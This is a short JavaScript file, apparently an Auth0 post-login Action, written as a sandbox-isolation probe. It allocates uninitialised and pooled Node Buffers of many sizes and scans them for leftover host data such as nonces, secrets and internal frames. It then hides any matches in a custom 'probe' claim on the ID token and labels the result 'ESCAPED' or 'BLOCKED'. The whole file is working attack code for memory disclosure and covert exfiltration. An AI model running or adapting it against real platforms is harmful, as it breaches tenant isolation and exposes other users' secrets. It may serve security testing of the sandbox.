// nonce, frames and order of the host in uninitialised or pooled Buffers
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  const bad = /"type":"(?:effect|settled)"|"nonce"|"secrets":|[A-Za-z0-9_-]{32}\{"type"/;
  const look = (label, b) => { if (bad.test(Buffer.from(b.buffer ?? b).toString('latin1'))) found.push(label); };
  for (let i = 0; i < 300; i++) { api.idToken.setCustomClaim('c' + i, 'x'.repeat(i)); look('pool', Buffer.from('a')); }
  for (const size of [64, 512, 4096, 8192, 65536, 1 << 20]) for (let i = 0; i < 20; i++) { look('allocUnsafe ' + size, Buffer.allocUnsafe(size)); look('allocUnsafeSlow ' + size, Buffer.allocUnsafeSlow(size)); }
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
